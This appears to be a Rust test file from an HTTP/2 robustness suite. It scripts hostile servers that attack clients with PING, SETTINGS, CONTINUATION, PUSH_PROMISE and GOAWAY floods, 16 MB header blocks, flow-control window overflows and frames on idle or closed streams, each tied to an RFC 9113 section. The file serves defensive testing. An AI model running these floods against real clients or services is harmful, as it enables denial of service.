//! Servers that mean harm.

use framewright::FrameType;

use crate::attacker::Attacker;
use crate::raw::{END_HEADERS, END_STREAM, frame, settings, string, window_update};
use crate::trial::Attack;

const MANY: usize = 200_000;

/// Waits for the request.
fn asked(a: &mut Attacker) -> &mut Attacker {
    a.reads().wait(|seen| seen.count(FrameType::HEADERS) > 0);
    a
}

/// `:status: 200`.
fn ok() -> Vec<u8> {
    frame(FrameType::HEADERS, END_HEADERS, 1, &[0x88])
}

#[test]
fn rfc9113_10_5_ping_flood() {
    let attack = Attack::new("client: PING flood", |a| {
        asked(a).repeat(MANY, &frame(FrameType::PING, 0, 0, b"floodnum"));
    });
    attack.on_clients();
}

#[test]
fn rfc9113_10_5_ping_flood_unread() {
    let attack = Attack::new("client: PING flood, ACKs not read", |a| {
        a.repeat(5 * MANY, &frame(FrameType::PING, 0, 0, b"floodnum"));
        a.rest();
    });
    attack.on_clients();
}

#[test]
fn rfc9113_10_5_settings_flood() {
    let attack = Attack::new("client: SETTINGS flood", |a| {
        asked(a).repeat(MANY, &settings(&[(4, 70_000)]));
    });
    attack.on_clients();
}

#[test]
fn rfc9113_10_5_settings_flood_unread() {
    let attack = Attack::new("client: SETTINGS flood, ACKs not read", |a| {
        a.repeat(5 * MANY, &settings(&[(4, 70_000)]));
        a.rest();
    });
    attack.on_clients();
}

#[test]
fn rfc9113_8_1_informational_responses_without_end() {
    let attack = Attack::new("client: 103 without end", |a| {
        let mut block = vec![0x08, 3];
        block.extend(b"103");
        for _ in 0..10 {
            block.push(0x00);
            string(&mut block, "link");
            string(&mut block, "</style.css>; rel=preload; as=style");
        }
        asked(a).repeat(20_000, &frame(FrameType::HEADERS, END_HEADERS, 1, &block));
    });
    attack.on_clients();
}

#[test]
fn rfc9113_8_4_pushes_that_were_not_allowed() {
    let attack = Attack::new("client: PUSH_PROMISE flood", |a| {
        asked(a).each(1..5_000, |i| {
            let block = [0x82, 0x86, 0x84, 0x01, 1, b'a'];
            let payload = [&(2 * i).to_be_bytes()[..], &block].concat();
            frame(FrameType::PUSH_PROMISE, END_HEADERS, 1, &payload)
        });
    });
    attack.on_clients();
}

#[test]
fn rfc9113_6_10_a_block_without_end() {
    let attack = Attack::new("client: CONTINUATION flood", |a| {
        asked(a).send(&frame(FrameType::HEADERS, 0, 1, &[0x88]));
        a.repeat(
            MANY,
            &frame(FrameType::CONTINUATION, 0, 1, b"\x00\x01a\x01b"),
        );
    });
    attack.on_clients();
}

#[test]
fn rfc9113_10_5_1_huge_blocks() {
    let attack = Attack::new("client: header blocks of 16 MB", |a| {
        let fields = b"\x00\x01a\x01b".repeat(3_200);
        asked(a).send(&frame(FrameType::HEADERS, 0, 1, &[0x88]));
        a.repeat(1_000, &frame(FrameType::CONTINUATION, 0, 1, &fields));
        a.send(&frame(FrameType::CONTINUATION, END_HEADERS, 1, b""));
    });
    attack.on_clients();
}

#[test]
fn rfc9113_5_1_a_response_on_a_stream_that_is_idle() {
    let attack = Attack::new("client: a response on an idle stream", |a| {
        asked(a).send(&frame(FrameType::HEADERS, END_HEADERS, 3, &[0x88]));
        asked(a).send(&ok());
        a.repeat(4_000, &frame(FrameType::DATA, 0, 3, &[0; 16_384]));
    });
    attack.on_clients();
}

#[test]
fn rfc9113_10_5_empty_data() {
    let attack = Attack::new("client: empty DATA", |a| {
        asked(a).send(&ok());
        a.repeat(MANY, &frame(FrameType::DATA, 0, 1, b""));
    });
    attack.on_clients();
}

#[test]
fn rfc9113_6_9_1_the_connections_window_overflows() {
    let attack = Attack::new("client: connection window that overflows", |a| {
        asked(a).send(&window_update(0, (1 << 31) - 1));
    });
    attack.on_clients();
}

#[test]
fn rfc9113_6_9_1_a_streams_window_overflows() {
    let attack = Attack::new("client: stream window that overflows", |a| {
        asked(a).send(&ok());
        a.repeat(1_000, &window_update(1, (1 << 31) - 1));
    });
    attack.on_clients();
}

#[test]
fn rfc9113_6_8_goaway_flood() {
    let attack = Attack::new("client: GOAWAY flood", |a| {
        let payload = [&1_u32.to_be_bytes()[..], &[0; 4], &[7; 1_000]].concat();
        asked(a).repeat(5_000, &frame(FrameType::GOAWAY, 0, 0, &payload));
    });
    attack.on_clients();
}

#[test]
fn rfc9113_5_1_responses_that_end_and_end_again() {
    let attack = Attack::new("client: frames on a closed stream", |a| {
        asked(a).send(&frame(
            FrameType::HEADERS,
            END_HEADERS | END_STREAM,
            1,
            &[0x88],
        ));
        a.repeat(
            MANY,
            &frame(FrameType::RST_STREAM, 0, 1, &8_u32.to_be_bytes()),
        );
    });
    attack.on_clients();
}
